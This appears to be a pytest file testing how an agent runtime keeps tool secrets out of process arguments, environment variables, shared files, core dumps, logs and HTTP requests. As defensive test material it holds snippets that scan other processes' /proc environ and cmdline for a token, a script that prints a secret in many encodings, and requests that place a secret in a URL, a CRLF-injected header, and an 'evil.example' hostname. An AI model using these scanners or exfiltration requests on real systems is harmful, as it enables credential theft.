"""Attacks on secrets: on the way to a tool, at rest, in what is recorded, shown, logged and told to a model.

The controls carry a secret as careless programs do (arguments, variables, a file that all may read), or print a value
that is no secret in the same forms: what is looked for afterwards finds it there.
"""

from __future__ import annotations

import ast
import base64
import json
import os
import resource
import signal
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from urllib.parse import quote, quote_plus

import pytest
from cli_world import World
from test_skills import make_skill

import edgeagent
from attacks.arena import LEVELS, PRELUDE, PYTHON
from edgeagent.logs import LogFile
from edgeagent.model.scripted import ScriptedModel
from edgeagent.redaction import Redactor, hide_in_log
from edgeagent.runtime import Runtime, enqueue_manual, open_runtime, utc_now
from edgeagent.sandbox import Bubblewrap, Command, Landlocked, Limits, Sandbox, run
from edgeagent.schema import Run, ToolCall
from edgeagent.skills.fetch import staged

VALUE = 'tk-7d"Zq/+x 9f\\&1e5c'
OTHER = 'no-0b"Wm/+y 4a\\&8d3f'
"""Of the same kind, and no secret: the control."""
FORMS: dict[str, Callable[[str], str]] = {
    "as it is": lambda value: value,
    "in JSON": json.dumps,
    "in JSON with slashes": lambda value: json.dumps(value).replace("/", "\\/"),
    "in a URL": lambda value: quote(value, safe=""),
    "in a form": quote_plus,
    "in hexadecimal": lambda value: value.encode().hex(),
    "in big hexadecimal": lambda value: value.encode().hex().upper(),
    "in base64": lambda value: base64.b64encode(value.encode()).decode(),
    "in base64 for URLs": lambda value: base64.urlsafe_b64encode(value.encode()).decode(),
    "in basic authorization": lambda value: base64.b64encode(f"me:{value}".encode()).decode(),
    "in base64 after two bytes": lambda value: base64.b64encode(f"ab{value}".encode()).decode(),
    "in base64 with line ends": lambda value: base64.encodebytes(f"{'x' * 50}{value}{'y' * 50}".encode()).decode(),
}
_CORES = {"in base64", "in base64 for URLs", "in basic authorization", "in base64 after two bytes"}


def parts(value: str, form: str) -> list[str]:
    """What must not be found: the whole form, and of base64 the middle that stands whatever is around it."""
    written = FORMS[form](value)
    return [written, written[8:-8]] if form in _CORES else [written]


def found(text: str, value: str = VALUE) -> list[str]:
    """The forms in which the value stands in a text."""
    return [form for form in FORMS if any(part in text for part in parts(value, form))]


# --- on the way to a tool --------------------------------------------------------------------------------------------

SCANS = {
    "variables of processes": "for p in pids(): look(f'/proc/{p}/environ')",
    "arguments of processes": "for p in pids(): look(f'/proc/{p}/cmdline')",
    "open files of processes": """
for p in pids():
    try: numbers = os.listdir(f'/proc/{p}/fd')
    except OSError: continue
    for n in numbers: look(f'/proc/{p}/fd/{n}')
""",
    "files in shared places": """
for place in ('/dev/shm', '/run', '/var/tmp', '/tmp'):
    for folder, folders, names in os.walk(place):
        folders[:] = folders[:40]
        for name in names[:5000]: look(f'{folder}/{name}')
""",
    "its own variables": "look('/proc/self/environ')",
    "its own arguments": "look('/proc/self/cmdline')",
}
HELPERS = """
    MARK = bytes.fromhex(sys.argv[1])
    def pids(): return [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]
    def look(path):
        try:
            if not stat.S_ISREG(os.stat(path).st_mode): return
            d = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            if MARK in os.pread(d, 1_000_000, 0): escaped(path)
        except OSError: pass
"""


def scanner(name: str, mark: str) -> tuple[str, ...]:
    """A program that looks for a text; the text is not an argument of its own."""
    lines = "".join(f"    {line}\n" for line in SCANS[name].strip().splitlines())
    hidden = "".join(f"{byte:02x}" for byte in mark.encode())
    return (PYTHON, "-I", "-S", "-c", f"{PRELUDE}{HELPERS}{lines}except OSError: pass\n", hidden)


def sandbox(level: str, folder: Path) -> Sandbox:
    if level == "full":
        return Bubblewrap(python=PYTHON)
    (folder / "scratch").mkdir(exist_ok=True)
    return Landlocked(folder / "scratch", python=PYTHON)


USES = "import os,sys,time\nv=open(os.environ['TOKEN_FILE']).read()\nprint('has', len(v), flush=True)\ntime.sleep(float(sys.argv[1]))"


@contextmanager
def in_use(level: str, folder: Path, value: str) -> Iterator[None]:
    """A command that has the secret, and is at work."""
    command = Command(
        (PYTHON, "-I", "-S", "-c", USES, "8"), folder, secrets={"TOKEN": value}, limits=Limits(wall_seconds=60)
    )
    seen: list[bytes] = []
    thread = threading.Thread(target=lambda: seen.append(run(sandbox(level, folder), command).stdout))
    thread.start()
    time.sleep(1.5)
    yield
    thread.join(60)
    assert seen == [f"has {len(value)}\n".encode()]


@contextmanager
def careless(folder: Path, value: str) -> Iterator[None]:
    """A program that is given a secret in every way but the right one."""
    place = Path("/dev/shm") / f"edgeagent-{os.getpid()}"
    place.write_text(value)
    program = "import sys,time; f=open(sys.argv[2]); print(1, flush=True); time.sleep(60)"
    with subprocess.Popen(
        [PYTHON, "-c", program, value, str(place)], env={"TOKEN": value}, stdout=subprocess.PIPE
    ) as process:
        assert process.stdout and process.stdout.readline()
        try:
            yield
        finally:
            process.kill()
            place.unlink()


@pytest.mark.parametrize("level", LEVELS)
@pytest.mark.parametrize("name", [name for name in SCANS if name != "open files of processes"])
def test_a_secret_in_use_is_in_no_argument_no_variable_and_no_file(tmp_path: Path, name: str, level: str) -> None:
    """Nor for the user's own programs outside; those can look into open files, which nothing can keep them from."""
    value = f"tk-{os.urandom(12).hex()}"
    with in_use(level, tmp_path, value):
        done = subprocess.run(scanner(name, value), capture_output=True, text=True, timeout=120)
    assert done.stdout == "tried\n"


@pytest.mark.parametrize("level", LEVELS)
@pytest.mark.parametrize("name", [name for name in SCANS if "its own" not in name])
def test_a_tool_does_not_find_the_secrets_of_others(tmp_path: Path, name: str, level: str) -> None:
    value = f"tk-{os.urandom(12).hex()}"
    with careless(tmp_path, value):
        control = subprocess.run(scanner(name, value), capture_output=True, text=True, timeout=120)
        confined = run(
            sandbox(level, tmp_path), Command(scanner(name, value), tmp_path, limits=Limits(wall_seconds=60))
        )
    assert "ESCAPED" in control.stdout, control
    assert confined.stdout == b"tried\n", confined


def test_no_program_is_started_with_all_of_our_variables() -> None:
    """Secrets may be among them: whatever starts a program says which variables it has."""
    careless = []
    for path in sorted(Path(edgeagent.__file__).parent.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text())):
            if not isinstance(node, ast.Call) or any(word.arg == "env" for word in node.keywords):
                continue
            if ast.unparse(node.func) in ("subprocess.Popen", "subprocess.run"):
                careless.append(f"{path.name}:{node.lineno}")
    assert not careless


# --- a crash ---------------------------------------------------------------------------------------------------------

CRASH = "import os, resource, sys\nfrom edgeagent.cli.main import keep_no_core\n{}\nos.abort()"


def crashed(folder: Path, line: str) -> bool:
    """Whether the kernel wrote the memory of a process that crashed."""
    _, most = resource.getrlimit(resource.RLIMIT_CORE)
    pid = os.fork()
    if pid == 0:
        with suppress(OSError, ValueError):
            os.chdir(folder)
            os.dup2(os.open(os.devnull, os.O_WRONLY), 2)
            resource.setrlimit(resource.RLIMIT_CORE, (most, most))
            os.execv(sys.executable, [sys.executable, "-c", CRASH.format(line)])
        os._exit(1)
    status = os.waitpid(pid, 0)[1]
    assert os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGABRT, status
    return os.WCOREDUMP(status)


def test_a_crash_leaves_no_copy_of_our_memory(tmp_path: Path) -> None:
    if resource.getrlimit(resource.RLIMIT_CORE)[1] != 0:  # else no process of this machine leaves one
        assert crashed(tmp_path, "pass")
    assert not crashed(tmp_path, "keep_no_core()")


# --- a tool that prints its secret -----------------------------------------------------------------------------------

LEAK = """\
import base64, json, os, sys, time
from urllib.parse import quote, quote_plus
value = open(os.environ["TOKEN_FILE"]).read() if "TOKEN_FILE" in os.environ else sys.argv[2]
way = sys.argv[1]
raw = value.encode()
forms = [value, json.dumps(value), json.dumps(value).replace("/", "\\\\/"), quote(value, safe=""), quote_plus(value), raw.hex(),
         raw.hex().upper(), base64.b64encode(raw).decode(), base64.urlsafe_b64encode(raw).decode(),
         base64.b64encode(b"me:" + raw).decode(), base64.b64encode(b"ab" + raw).decode(),
         base64.encodebytes(b"x" * 50 + raw + b"y" * 50).decode()]
out = sys.stderr if way == "error" else sys.stdout
if way == "json":
    print(json.dumps({"forms": forms, value: 1}))
elif way == "pieces":
    for letter in " | ".join(forms):
        out.write(letter); out.flush()
elif way == "far":
    print("z" * 1980 + " ".join(forms))
else:
    print("\\n".join(forms), file=out)
sys.exit(1 if way == "error" else 0)
"""
WAYS = ["printed", "pieces", "json", "error", "far"]
SIDECAR = """\
version: 1
tools:
  - name: leak
    description: Says all that it knows.
    run: [python3, scripts/shout.py, "{way}", "{said}"]
    input_schema: {type: object, required: [way], properties: {way: {type: string}, said: {type: string}}}
    needs: {secrets: [TOKEN]}
"""


class Leaky:
    """A home with a skill that has a secret and tells it, and all that is kept of what it said."""

    def __init__(self, root: Path) -> None:
        self.root, self.home = root, root / "home"
        variables = {"EDGEAGENT_HOME": str(self.home), "HOME": str(root), "EDGEAGENT_SECRET_TOKEN": VALUE}
        self.runtime: Runtime = open_runtime(variables)
        self.runtime.home.create()
        self.model = ScriptedModel([])
        folder = make_skill(root / "leaky", sidecar=SIDECAR)
        (folder / "scripts/shout.py").write_text(LEAK)
        with staged(str(folder), self.runtime.home.skills) as staging:
            self.runtime.skills.install(staging.skills[0])
        self.runtime.skills.trust("leaky", utc_now())

    def run(self, *turns: ToolCall | str, grants: str, more: str = "skills: [leaky]") -> Run:
        (self.home / "agents/a.md").write_text(
            f"---\n{more}\napproval: never\naccept_risk: true\ngrants: {grants}\n---\nGo.\n"
        )
        self.model = ScriptedModel([*turns, "Done."])
        agent = self.runtime.agent("a")
        with self.runtime.writer() as store:
            run_id = enqueue_manual(store, agent, "manual", {})
            worker = self.runtime.worker(store, "cli")
            worker.models = lambda agent: self.model
            claimed = store.claim_run(run_id, worker.owner, utc_now())
            assert claimed
            worker.execute(claimed, agent, threading.Event())
            return store.run(run_id)

    def kept(self, run: Run) -> str:
        """All that anybody can read afterwards: the journal's files, the run as the API and commands give it, and what
        the model was told."""
        files = [path for path in self.home.rglob("*") if path.is_file() and "skills" not in path.parts]
        told = "".join(message.content for request in self.model.requests for message in request.messages)
        raw = "".join(path.read_bytes().decode("latin-1") for path in files)
        return told + json.dumps(run.as_json()) + json.dumps(run.as_json(), ensure_ascii=False) + raw


@pytest.fixture
def leaky(tmp_path: Path) -> Iterator[Leaky]:
    leaky = Leaky(tmp_path)
    yield leaky
    leaky.runtime.close()


@pytest.mark.parametrize("way", WAYS)
def test_what_a_tool_says_of_its_secret_is_kept_nowhere(leaky: Leaky, way: str) -> None:
    control = leaky.run(ToolCall("leak", {"way": way, "said": OTHER}), grants="{}")
    assert found(leaky.kept(control), OTHER), control.steps
    run = leaky.run(ToolCall("leak", {"way": way, "said": "x"}), grants="{secrets: {leak: [TOKEN]}}")
    assert "[secret TOKEN]" in run.steps[1].result or way == "far", run.steps[1]
    assert not found(leaky.kept(run))


def test_a_secret_that_is_bound_to_another_tool_is_not_given(leaky: Leaky) -> None:
    for grants in ("{}", "{secrets: {http_request: [TOKEN]}}", "{secrets: {leak: [ANOTHER]}}"):
        run = leaky.run(ToolCall("leak", {"way": "printed", "said": OTHER}), grants=grants)
        assert not found(leaky.kept(run)), grants
        assert "[secret" not in run.steps[1].result, grants
    got = leaky.run(ToolCall("leak", {"way": "printed", "said": OTHER}), grants="{secrets: {leak: [TOKEN]}}")
    assert "[secret TOKEN]" in got.steps[1].result  # the control


def test_a_secret_in_a_result_that_comes_back_as_an_argument_is_hidden(leaky: Leaky) -> None:
    """A model that copies what it should not have: its arguments are recorded too."""
    leaky.runtime.secrets.secret("TOKEN")
    call = ToolCall("leak", {"way": "printed", "said": f"{VALUE} {base64.b64encode(VALUE.encode()).decode()}"})
    run = leaky.run(call, f"The secret is {VALUE}", grants="{}")
    assert not found(json.dumps(run.as_json()))
    assert "[secret TOKEN]" in json.dumps(run.as_json())


# --- requests --------------------------------------------------------------------------------------------------------


@contextmanager
def echo() -> Iterator[tuple[int, list[str]]]:
    """A server that says all that it was sent, as hosts of strangers may."""
    sent: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode()
            sent.append(f"{self.path}\n{self.headers}\n{body}")
            self.send_response(500 if "fail" in self.path else 200, "Said")
            self.send_header("Content-Type", "text/plain")
            self.end_headers()
            self.wfile.write(sent[-1].encode())

        def do_GET(self) -> None:
            self.do_POST()

        def log_message(self, *arguments: object) -> None:
            """Says nothing."""

    with HTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield server.server_port, sent
        finally:
            server.shutdown()
            thread.join()


S = "{{ secrets.TOKEN }}"
REQUESTS: dict[str, Callable[[int], dict[str, object]]] = {
    "in the path": lambda port: {"url": f"http://127.0.0.1:{port}/{S}"},
    "in the query": lambda port: {"url": f"http://127.0.0.1:{port}/?token={S}"},
    "in a header": lambda port: {"url": f"http://127.0.0.1:{port}/", "headers": {"Authorization": f"Bearer {S}"}},
    "in the body": lambda port: {"url": f"http://127.0.0.1:{port}/", "method": "POST", "body": f"t={S}"},
    "with an error": lambda port: {"url": f"http://127.0.0.1:{port}/fail/{S}"},
    "to nobody": lambda port: {"url": f"http://127.0.0.1:9/{S}"},
    "in a user name": lambda port: {"url": f"http://{S}:x@127.0.0.1:{port}/"},
    "in a password": lambda port: {"url": f"http://me:{S}@127.0.0.1:{port}/"},
    "in the name of the host": lambda port: {"url": f"http://{S}.evil.example/"},
    "in a header with a line end": lambda port: {"url": f"http://127.0.0.1:{port}/", "headers": {"X": f"a\r\nY: {S}"}},
}
REFUSED = {"in a user name", "in a password", "in the name of the host", "in a header with a line end", "to nobody"}


@pytest.mark.parametrize("attack", REQUESTS)
def test_a_secret_of_a_request_comes_back_nowhere(leaky: Leaky, attack: str) -> None:
    with echo() as (port, sent):
        hosts = f"['127.0.0.1:{port}', '127.0.0.1:9']"
        call = ToolCall("http_request", REQUESTS[attack](port))
        run = leaky.run(
            call, grants=f"{{network: {hosts}, secrets: {{http_request: [TOKEN]}}}}", more="tools: [http_request]"
        )
    assert run.steps[1].kind == "tool"
    assert bool(sent) == (attack not in REFUSED), run.steps[1]
    assert not sent or found("".join(sent)), "the control: the server was told it"
    assert not found(leaky.kept(run))


# --- at rest and in the log ------------------------------------------------------------------------------------------


def test_what_is_kept_is_encrypted_and_for_its_owner_alone(tmp_path: Path) -> None:
    world = World(tmp_path)
    world.variables["EDGEAGENT_SECRETS_BACKEND"] = "file"
    before = os.umask(0)
    try:
        assert world.call("secrets", "set", "TOKEN", stdin=VALUE).exit_code == 0
        control = world.home / "careless.txt"
        control.write_text(VALUE)
    finally:
        os.umask(before)
    files = [path for path in world.home.rglob("*") if path.is_file()]
    assert [path for path in files if found(path.read_bytes().decode("latin-1"))] == [control]
    open_to_others = [path.name for path in files if path.stat().st_mode & 0o077 and "secrets" in path.name]
    assert not open_to_others and control.stat().st_mode & 0o077
    assert {path.name for path in files} >= {"secrets.enc", "secrets.key"}


@pytest.mark.parametrize("name", ["secrets.enc", "secrets.key"])
def test_a_link_in_the_place_of_the_file_leads_nothing_astray(tmp_path: Path, name: str) -> None:
    world = World(tmp_path)
    world.variables["EDGEAGENT_SECRETS_BACKEND"] = "file"
    target = tmp_path / "elsewhere"
    target.write_text("")
    target.chmod(0o644)
    (world.home / name).symlink_to(target)
    world.call("secrets", "set", "TOKEN", stdin=VALUE)
    assert not found(target.read_bytes().decode("latin-1"))
    assert stat.S_IMODE(target.stat().st_mode) == 0o644 and target.read_bytes() == b""


def test_the_log_holds_no_secret_in_any_form(tmp_path: Path) -> None:
    import logging

    def logged(redactor: Redactor | None, name: str) -> str:
        handler = LogFile(tmp_path / name)
        if redactor:
            hide_in_log([handler], redactor)
        for form in FORMS:
            handler.emit(logging.LogRecord("edgeagent", logging.ERROR, "", 0, "%s", (FORMS[form](VALUE),), None))
        return (tmp_path / name).read_text()

    redactor = Redactor()
    redactor.add("TOKEN", VALUE)
    assert len(found(json.loads(logged(None, "bare").splitlines()[0])["message"])) == 1
    hidden = logged(redactor, "log")
    assert hidden.count("[secret TOKEN]") == len(FORMS)
    assert not found("\n".join(json.loads(line)["message"] for line in hidden.splitlines()))
